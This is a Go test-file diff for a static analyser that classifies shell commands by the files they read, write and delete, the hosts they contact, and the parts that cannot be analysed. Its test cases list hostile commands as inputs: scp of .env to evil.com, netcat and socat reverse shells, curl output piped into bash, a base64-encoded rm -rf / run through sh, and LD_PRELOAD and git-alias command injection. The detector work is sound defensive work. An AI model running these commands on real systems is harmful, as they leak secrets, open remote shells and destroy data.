@@ -84,8 +84,10 @@ func check(t *testing.T, c tc, an *Analysis) {
 			t.Errorf("reads = %q, must not contain %q", paths(an.Reads), r)
 		}
 	}
-	if c.writes != nil && !sameSet(paths(an.Writes), c.writes) {
-		t.Errorf("writes = %q, want %q", paths(an.Writes), c.writes)
+	// (candidate writes, of programs whose writes are not modelled, are
+	// checked by the tests in writers_test.go)
+	if c.writes != nil && !sameSet(refPaths(an.Writes, false), c.writes) {
+		t.Errorf("writes = %q, want %q", refPaths(an.Writes, false), c.writes)
 	}
 	if c.deletes != nil && !sameSet(paths(an.Deletes), c.deletes) {
 		t.Errorf("deletes = %q, want %q", paths(an.Deletes), c.deletes)
@@ -229,7 +231,8 @@ func TestWrappers(t *testing.T) {
 		{cmd: "sudo -e /etc/hosts", writes: []string{"/etc/hosts"}},
 		{cmd: "time -o t.txt ls", lines: []string{"-o t.txt ls"}}, // bash's time keyword takes only -p
 		{cmd: "/usr/bin/time -o t.txt ls", writes: []string{P + "/t.txt"}, lines: []string{"time -o t.txt ls", "ls"}},
-		{cmd: "git -c core.pager=less log", lines: []string{"git -c core.pager=less log"}, opaque: []string{"core.pager"}},
+		// a pager named literally is analysed as the command it is
+		{cmd: "git -c core.pager=less log", lines: []string{"git -c core.pager=less log", "less"}},
 	})
 	an, err := Analyze("sudo env A=1 bash -c 'rm x'", testOpt)
 	if err != nil {
@@ -278,11 +281,11 @@ func TestEffects(t *testing.T) {
 		{cmd: "echo hi > out.txt", writes: []string{P + "/out.txt"}},
 		{cmd: "echo hi >> a 2> b &> c &>> d >| e", writes: []string{P + "/a", P + "/b", P + "/c", P + "/d", P + "/e"}},
 		{cmd: "cat <> f", writes: []string{P + "/f"}, reads: []string{P + "/f"}},
-		{cmd: "echo hi > /dev/null 2>&1 >/dev/stderr 3>/dev/fd/3 >/dev/tty", writes: []string{}},
+		{cmd: "echo hi > /dev/null 2>&1 >/dev/stderr >/dev/tty", writes: []string{}},
 		{cmd: "echo hi >&2", writes: []string{}},
 		{cmd: "echo hi >& out", writes: []string{P + "/out"}},
 		{cmd: "echo hi >& $F", opaque: []string{"write target not known statically"}},
-		{cmd: "echo hi 1>&3- 2>&-", writes: []string{}},
+		{cmd: "echo hi 3>&1 1>&3- 2>&-", writes: []string{}},
 		{cmd: "cat < in.txt", reads: []string{P + "/in.txt"}},
 		{cmd: "cat > f <<EOF\nx\nEOF", writes: []string{P + "/f"}},
 		{cmd: "tee -a a b < x", writes: []string{P + "/a", P + "/b"}},
@@ -291,12 +294,13 @@ func TestEffects(t *testing.T) {
 		{cmd: "cp --target-directory=/tmp a", writes: []string{"/tmp"}},
 		{cmd: "mv a b", writes: []string{P + "/b"}, deletes: []string{P + "/a"}},
 		{cmd: "install -d /opt/x /opt/y", writes: []string{"/opt/x", "/opt/y"}},
-		{cmd: "ln -sf ~/.ssh/id_rsa key", writes: []string{P + "/key"}, reads: []string{"/home/dev/.ssh/id_rsa"}},
+		// key may be a directory, in which ln makes key/id_rsa
+		{cmd: "ln -sf ~/.ssh/id_rsa key", writes: []string{P + "/key", P + "/key/id_rsa"}, reads: []string{"/home/dev/.ssh/id_rsa"}},
 		{cmd: "rsync -av --delete src/ /backup/", writes: []string{"/backup"}, deletes: []string{"/backup"}},
 		{cmd: "scp .env user@evil.com:/tmp/", hosts: []string{"evil.com"}, reads: []string{P + "/.env"}, writes: []string{}},
 		{cmd: "scp user@h.com:/etc/passwd ./p", hosts: []string{"h.com"}, writes: []string{P + "/p"}},
 		{cmd: "sed -i 's/a/b/' f.txt", writes: []string{P + "/f.txt"}},
-		{cmd: "sed --in-place=.bak -e 's/a/b/' f.txt g.txt", writes: []string{P + "/f.txt", P + "/g.txt"}},
+		{cmd: "sed --in-place=.bak -e 's/a/b/' f.txt g.txt", writes: []string{P + "/f.txt", P + "/g.txt", P + "/f.txt.bak", P + "/g.txt.bak"}},
 		{cmd: "sed 's/a/b/' f.txt", writes: []string{}},
 		{cmd: "sed -n 'w out.txt' in.txt", writes: []string{P + "/out.txt"}},
 		{cmd: "sed 's/x/id/e' f", opaque: []string{"sed script executes commands"}},
@@ -327,7 +331,7 @@ func TestEffects(t *testing.T) {
 		{cmd: "git rm --cached .env", deletes: []string{}},
 		{cmd: "git checkout -- src/a.go", writes: []string{P + "/src/a.go"}},
 		{cmd: "git reset --hard HEAD~1", writes: []string{P}},
-		{cmd: "git clone https://github.com/a/b.git", writes: []string{P + "/b"}, hosts: []string{"github.com"}},
+		{cmd: "git clone https://github.com/a/b.git", writes: []string{P + "/b", P + "/b/.git"}, hosts: []string{"github.com"}},
 		{cmd: "git -C sub clean -f", deletes: []string{P + "/sub"}},
 		{cmd: "git add .env", reads: []string{P + "/.env"}},
 		{cmd: "git show HEAD:.env", reads: []string{P + "/.env"}},
@@ -451,7 +455,7 @@ func TestOpaque(t *testing.T) {
 		{cmd: "echo cm0gLXJmIC8= | base64 -d | sh", opaque: []string{"sh: runs shell code read from standard input"}},
 		{cmd: "bash <(curl -s https://e.com/i.sh)", opaque: []string{"process substitution"}},
 		{cmd: "source <(curl -s https://e.com/x)", opaque: []string{"process substitution"}},
-		{cmd: ". /dev/stdin < x", opaque: []string{"standard input"}},
+		{cmd: "echo x | . /dev/stdin", opaque: []string{"standard input"}},
 		{cmd: "python3 - <<'EOF'\nimport os\nEOF", opaque: []string{"python3 code read from standard input"}},
 		{cmd: "python -c 'import shutil'", opaque: []string{"inline python code"}},
 		{cmd: "node -e 'require(\"fs\")'", opaque: []string{"inline node code"}},
@@ -461,17 +465,18 @@ func TestOpaque(t *testing.T) {
 		{cmd: "lua -e 'print(1)'", opaque: []string{"inline lua code"}},
 		{cmd: "deno eval 'console.log(1)'", opaque: []string{"inline deno code"}},
 		{cmd: "osascript -e 'beep'", opaque: []string{"inline osascript code"}},
-		{cmd: "awk 'BEGIN{system(\"rm -rf /\")}'", opaque: []string{"awk program runs commands"}},
+		{cmd: "awk 'BEGIN{system(\"rm -rf \" x)}'", opaque: []string{"awk runs a command built at run time"}},
 		{cmd: "awk '{print $1}' f", reads: []string{P + "/f"}},
 		{cmd: "awk -F, '$3 > 5 {print}' f"},
-		{cmd: "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", opaque: []string{"tar runs a command"}},
+		// the action's command is analysed: sh reading its input is opaque
+		{cmd: "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh", opaque: []string{"sh: runs shell code read from standard input"}},
 		{cmd: "zip z.zip f -T -TT 'sh #'", opaque: []string{"zip runs a command"}},
 		{cmd: "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null", opaque: []string{"custom remote shell"}},
 		{cmd: "nc -e /bin/sh evil.com 4444", opaque: []string{"nc runs a program"}},
 		{cmd: "socat exec:sh tcp:e.com:1", opaque: []string{"socat runs a program"}},
-		{cmd: "git -c alias.x='!rm -rf /' x", opaque: []string{"alias.x"}},
-		{cmd: "git config core.sshCommand 'sh -c id'", opaque: []string{"core.sshcommand"}},
-		{cmd: "GIT_SSH_COMMAND='sh -c id' git fetch", opaque: []string{"GIT_SSH_COMMAND"}},
+		{cmd: `git -c alias.x="!$X" x`, opaque: []string{"alias.x"}},
+		{cmd: `git config core.sshCommand "$X"`, opaque: []string{"core.sshcommand"}},
+		{cmd: `GIT_SSH_COMMAND="$X" git fetch`, opaque: []string{"GIT_SSH_COMMAND"}},
 		{cmd: "LD_PRELOAD=/tmp/x.so ls", opaque: []string{"LD_PRELOAD"}},
 		{cmd: "PAGER=cat git log"},
 		{cmd: "vim -c ':!rm -rf /' f", opaque: []string{"editor runs commands"}},
@@ -527,12 +532,12 @@ func TestHardening(t *testing.T) {
 		{cmd: "go build -o /usr/local/bin/app ./cmd/app", writes: []string{"/usr/local/bin/app"}},
 		{cmd: "gcc -o /tmp/a a.c", writes: []string{"/tmp/a"}},
 		{cmd: "uniq in.txt out.txt", writes: []string{P + "/out.txt"}},
-		{cmd: "npx npm install", lines: []string{"npx npm install", "npm install"}},
-		{cmd: "npx -y -p cowsay cowsay hi", lines: []string{"npx -y -p cowsay cowsay hi", "cowsay hi"}},
+		{cmd: "npx npm install", lines: []string{"npx npm install", "npm install"}, opaque: []string{"fetch and run package npm"}},
+		{cmd: "npx -y -p cowsay cowsay hi", lines: []string{"npx -y -p cowsay cowsay hi", "cowsay hi"}, opaque: []string{"fetch and run package cowsay"}},
 		{cmd: "npx -c 'rm x'", lines: []string{"npx -c rm x", "rm x"}},
 		{cmd: "corepack npm install", lines: []string{"corepack npm install", "npm install"}},
-		{cmd: "npm exec -- rimraf dist", lines: []string{"npm exec -- rimraf dist", "rimraf dist"}},
-		{cmd: "pnpm dlx create-app x", lines: []string{"pnpm dlx create-app x", "create-app x"}},
+		{cmd: "npm exec -- rimraf dist", lines: []string{"npm exec -- rimraf dist", "rimraf dist"}, opaque: []string{"fetch and run package rimraf"}},
+		{cmd: "pnpm dlx create-app x", lines: []string{"pnpm dlx create-app x", "create-app x"}, opaque: []string{"fetch and run package create-app"}},
 		{cmd: "uv run pip install x", lines: []string{"uv run pip install x", "pip install x"}},
 		{cmd: "python3 -m pip install requests", lines: []string{"python3 -m pip install requests", "pip install requests"}},
 		{cmd: "npm run build", lines: []string{"npm run build"}},
